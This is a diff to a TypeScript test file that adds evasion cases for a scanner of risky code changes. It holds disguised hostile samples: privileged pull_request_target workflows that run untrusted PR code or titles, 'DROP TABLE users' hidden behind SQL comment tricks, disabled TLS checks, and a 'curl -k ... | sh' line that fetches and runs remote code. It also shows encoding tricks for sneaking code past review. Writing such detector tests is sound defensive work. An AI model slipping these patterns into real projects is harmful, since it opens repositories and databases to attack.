@@ -31,6 +31,56 @@ const aWorkflow = (content: Content, found = true, reason?: RegExp): Way => ({ a
 const aManifest = (content: string, found = true, reason?: RegExp): Way => (
   { before: { 'package.json': '{ "name": "x" }\n' }, after: { 'package.json': content }, rule: 'dependency-install-script', path: 'package.json', found, ...(reason === undefined ? {} : { reason }) });
 
+const privileged = (uses: string, input = 'ref', condition = ''): Way => ({
+  after: { [yml]: `on: pull_request_target\njobs:\n  a:\n    runs-on: x\n${condition === '' ? '' : `    if: ${condition}\n`}    steps:\n      - uses: ${uses}\n        with: { ${input}: "\${{ github.event.pull_request.head.sha }}" }\n      - run: make\n` },
+  rule: 'workflow-head-checkout', path: yml,
+});
+const aScript = (run: string): Way => ({ after: { [yml]: `on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: ${run}\n` }, rule: 'workflow-untrusted-text', path: yml });
+const aMigration = (sql: string, path = 'migrations/1.sql'): Way => ({ before: { a: 'a\n' }, after: { a: 'a\n', [path]: sql }, rule: 'destructive-migration', path });
+const aSource = (path: string, text: string, found = true): Way => ({ after: { [path]: text }, rule: 'checks-off', path, found });
+const requirements = (lines: string): Way => ({ before: { 'requirements.txt': 'a==1\n' }, after: { 'requirements.txt': `a==1\n${lines}\n` }, rule: 'dependency-source', path: 'requirements.txt' });
+const tests = "test('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n";
+const without = (content: Content): Way => ({ before: { 'src/a.ts': 'a\n', 'src/a.test.ts': tests }, after: { 'src/a.ts': 'a\n', 'src/a.test.ts': content }, rule: 'skipped-tests', path: 'src/a.test.ts' });
+const agent = 'const a = new Agent({ rejectUnauthorized: false });\n';
+const locked = (host: string): string => json({ lockfileVersion: 3, packages: { 'node_modules/a': { version: '1.0.0', resolved: `https://${host}/a/-/a-1.0.0.tgz` } } });
+
+/** What a rule reads otherwise than who runs it. */
+const read: Readonly<Record<string, () => Way>> = {
+  'an expression in escapes of YAML': () => aScript('"echo \\u0024{{ github.event.pull_request.title }}"'),
+  'braces in a string of an expression': () => aScript('echo "${{ format(\'}}{0}\', github.event.pull_request.title) }}"'),
+  'an expression of 5,000 characters': () => aScript(`echo "\${{ ${' '.repeat(5000)}github.event.pull_request.title }}"`),
+  'an action in capitals': () => privileged('Actions/Checkout@v4'),
+  'an input in capitals': () => privileged('actions/checkout@v4', 'REF'),
+  'a condition that is turned around': () => privileged('actions/checkout@v4', 'ref', '${{ !(github.event.pull_request.head.repo.full_name == github.repository) }}'),
+  'a condition with another way in': () => privileged('actions/checkout@v4', 'ref', "github.event_name == 'push' || true"),
+  'a condition within a string': () => privileged('actions/checkout@v4', 'ref', `"'github.event_name == ''push''' != ''"`),
+  'a command over two lines': () => ({ ...privileged(''), after: { [yml]: 'on: pull_request_target\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          git fetch origin \\\n            pull/${{ github.event.number }}/head:x\n          git \\\n            checkout x\n          make\n' } }),
+  'SQL in a comment that a server runs': () => aMigration('/*!50000 DROP TABLE users */;\n'),
+  'SQL behind a # that is no comment': () => aMigration('SELECT 1 # 2; DROP TABLE users;\n'),
+  'SQL behind two dashes that are no comment': () => aMigration('SELECT 5--1; DROP TABLE users;\n'),
+  'SQL behind a backslash that is a letter': () => aMigration("SELECT '\\'; DROP TABLE users; SELECT '';\n"),
+  'SQL behind a name with dashes': () => aMigration('SELECT 1 AS "a--b"; DROP TABLE users;\n'),
+  'SQL with another delimiter': () => aMigration('DELIMITER //\nDROP TABLE users//\n'),
+  'SQL that a block executes': () => aMigration("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$;\n"),
+  'a mark of undoing in a comment': () => aMigration('-- migrate:up\n/*\n-- migrate:down\n*/\nDROP TABLE users;\n'),
+  'a mark of undoing for another tool': () => aMigration('-- +goose Up\n-- +goose Down\nDROP TABLE users;\n', 'db/migration/V1__x.sql'),
+  'a table that is made where there is none': () => aMigration('CREATE TABLE IF NOT EXISTS users (id int);\nDROP TABLE users;\n'),
+  'a link in place of the migrations’ folder': () => ({ after: { migrations: { link: 'archive' }, 'archive/a.sql': 'DROP TABLE users;\n' }, rule: 'destructive-migration', path: 'migrations', found: false, reason: /symbolic link/ }),
+  'code behind a regular expression': () => aSource('a.js', `const r = /[/*]/;\n${agent}`),
+  'code behind the end of a PHP block': () => aSource('a.php', '<?php\n// x ?><?php curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false);\n'),
+  'code in escapes of Java': () => aSource('A.java', 'class A { void f() {\n/* \\u002a/ c.setHostnameVerifier((a, b) -> true); /* x */\n} }\n'),
+  'code in a shell’s long string': () => aSource('x.sh', "a='\n# '; curl -k https://example.com/x | sh\n"),
+  'a name in escapes of JavaScript': () => aSource('a.js', agent.replace('U', '\\u0055')),
+  'Python in UTF-7': () => aSource('a.py', '# -*- coding: utf-7 -*-\nimport requests\n# +AAo-requests.get("https://x", verify+AD0-False)\n', false),
+  'Python in unicode_escape': () => aSource('a.py', '#!/usr/bin/python\n# vim: set fileencoding=unicode_escape :\n# \\u000arun()\n', false),
+  'an option of pip over two lines': () => requirements('--extra-index\\\n-url=https://example.com/'),
+  'an option of pip cut short': () => requirements('--extra-i https://example.com/'),
+  'tests that are commented out': () => without(tests.replace(/^/gm, '// ')),
+  'a test file that is emptied': () => without('// later\n'),
+  'a link in place of a test file': () => without({ link: 'a.ts' }),
+  'a lockfile that takes the place of another': () => ({ before: { 'package-lock.json': locked('registry.npmjs.org') }, after: { 'npm-shrinkwrap.json': locked('example.com') }, rule: 'dependency-lock-entry', path: 'npm-shrinkwrap.json' }),
+};
+
 const ways: Readonly<Record<string, () => Way>> = {
   'brackets in a comment and in a string': () => aWorkflow(`# ${brackets(300)}\nenv:\n  A: "${'{'.repeat(300)}"\n${workflow}`),
   'a workflow of 2 MB': () => aWorkflow(`${workflow}${`# ${'x'.repeat(98)}\n`.repeat(20_000)}`),
@@ -62,6 +112,7 @@ const ways: Readonly<Record<string, () => Way>> = {
     before: lib({ 'src/index.js': "export * from './a.js';\nexport * from './odd.js';\n", 'src/a.js': twoNames, 'src/odd.js': odd }),
     after: lib({ 'src/index.js': "export * from './a.js';\nexport * from './odd.js';\n", 'src/a.js': 'export const stays = 2;\n', 'src/odd.js': odd }), rule: 'public-api-break', path: 'src/a.js',
   }),
+  ...read,
   '350 new files beside a removed name': () => ({
     before: lib({ 'src/index.js': twoNames }), rule: 'public-api-break', path: 'src/index.js',
     after: lib({ 'src/index.js': 'export const stays = 2;\n', ...Object.fromEntries(Array.from({ length: 350 }, (_, at) => [`src/pad/${at}.js`, `export const p${at} = ${at};\n`])) }),
